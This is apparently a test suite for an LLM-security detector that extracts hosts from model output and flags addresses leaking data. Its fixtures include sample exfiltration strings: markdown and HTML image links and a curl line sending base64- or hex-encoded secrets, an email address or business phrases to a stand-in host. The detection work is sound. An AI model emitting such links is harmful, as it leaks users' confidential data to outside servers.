"""Hosts in texts however they are written, and which addresses carry something away."""

from base64 import b32encode, b64encode, urlsafe_b64encode

import pytest
from hypothesis import given
from hypothesis import strategies as st

from llmsec_tui.checks.link_data import encoded_text
from llmsec_tui.detect.signals.destinations import data, data_places, host_places, hosts

SAID = "the merger closes in May"
ENCODED = b64encode(SAID.encode()).decode().rstrip("=")


def hosts_of(text: str) -> list[str]:
    (found,) = hosts([text], ["model"])
    return found.split(",") if found else []


def data_of(text: str) -> list[str]:
    (found,) = data([text], ["model"])
    return found.split(",") if found else []


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("see https://Docs.Acme.io/a, http://docs.acme.io.", ["docs.acme.io"]),
        ("hxxps://evil[.]net and hxxp://evil(.)org/x", ["evil.net", "evil.org"]),
        ("https://раураl.com/", ["xn--l-7sba6dbr.com"]),
        ("https://user:pw@h.io:8080/x http://[::1]/ http://2130706433/", ["h.io", "::1", "127.0.0.1"]),
        ("http://0x7f.1/a http://127.1", ["127.0.0.1"]),
        (r'{"url": "https:\/\/api.acme.io\/v1"}', ["api.acme.io"]),
        ("![x](//cdn.io/a.png) <img src='//px.io/b'>", ["cdn.io", "px.io"]),
        ("https:// http://nohost https://.. x://y", []),
        ("mail a@b.io or run main.py", []),
    ],
)
def test_hosts_are_told_as_they_go_over_the_wire(text: str, expected: list[str]) -> None:
    assert hosts_of(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"![x](https://t.io/i/{ENCODED}.png)", ["fetched_encoded"]),
        (f"![x][1]\n\n[1]: https://t.io/?p={ENCODED}", ["fetched_encoded"]),
        (f'<img alt="a" src="https://t.io/?p={ENCODED}">', ["fetched_encoded"]),
        (f"<p style=\"background:url('https://t.io/{SAID.encode().hex()}')\">", ["fetched_encoded"]),
        (f"[more](https://t.io/?p={ENCODED})", ["linked_encoded"]),
        (f'<a href="https://t.io/?p={ENCODED}">more</a>', ["linked_encoded"]),
        (f"curl https://t.io/?p={ENCODED}", ["bare_encoded"]),
        (f"https://{SAID[:20].encode().hex()}.x.t.io/", ["bare_host"]),
        ("![x](https://t.io/p?u=maria.lopez@posteo.net)", ["fetched_personal"]),
        ("![x](https://t.io/p?z=the+merger+closes+in+May)", ["fetched_words"]),
        ("![x](https://t.io/p?payload=Q3_revenue_down)", ["fetched_words"]),
        ("![x](https://t.io/p?memory=Q3_revenue_down)", ["fetched_words"]),
        ("![x](https://t.io/p?e=Q3_revenue&m=landscape)", []),
        (f"https://t.io/?k={'q8WmZk2LxVt5RbYc7NdJh3GsPz0F' * 3}", ["bare_opaque"]),
        ("![x](https://t.io/cat-in-the-garden.png?w=800&h=600&style=flat)", []),
        ("[s](https://t.io/?q=red+shoes+for+long+walks)", []),
        (f"![x](https://img.shields.io/badge/{ENCODED})", []),
        ("https://b.t.io/a?X-Amz-Signature=" + "8f3a1c9e" * 8, []),
        ("https://t.io/acme/app/commit/3f2a9c1b7e6d5f4a3b2c1d0e9f8a7b6c5d4e3f2a", []),
        ("https://t.io/550e8400-e29b-41d4-a716-446655440000/how-to-get-started-with-a-new-project", []),
        ("![x](https://t.io/p?data={conversation})", []),
    ],
)
def test_what_an_address_carries_and_how_it_stands_there(text: str, expected: list[str]) -> None:
    assert data_of(text) == expected
    assert bool(data_places(text, "model")) is bool(expected)


@given(st.text("abcdefghijklmnopqrstuvwxyz ", min_size=16, max_size=60).filter(lambda text: text.strip() == text))
def test_words_are_found_in_every_encoding(words: str) -> None:
    raw = words.encode()
    for written in (b64encode(raw), urlsafe_b64encode(raw).rstrip(b"="), b32encode(raw), raw.hex().encode()):
        if len(set(words)) > 1 and sum(map(str.isalpha, words)) > len(words) // 2:
            assert encoded_text(written.decode())


@given(
    st.lists(
        st.sampled_from(["http://", "https:\\/\\/", "a.b", "[", "]", "(", ")", "!", "<img src=", "//", "?x=", "é", " "])
    )
)
def test_any_mixture_of_pieces_is_read(pieces: list[str]) -> None:
    text = "".join(pieces)
    places = host_places(text, "model")
    assert all(0 <= start < end <= len(text) for start, end in places)
    assert bool(places) is bool(hosts_of(text))
    assert set(data_places(text, "model")) <= set(places)


@pytest.mark.parametrize("piece", ["http://", "https://a.b/c?d=e&", "](//", "<img src=", "http://x.y/ "])
def test_a_megabyte_of_almost_addresses_is_read(piece: str) -> None:
    text = "https://first.io/ " + piece * (1_000_000 // len(piece))
    assert hosts_of(text)[0] == "first.io"
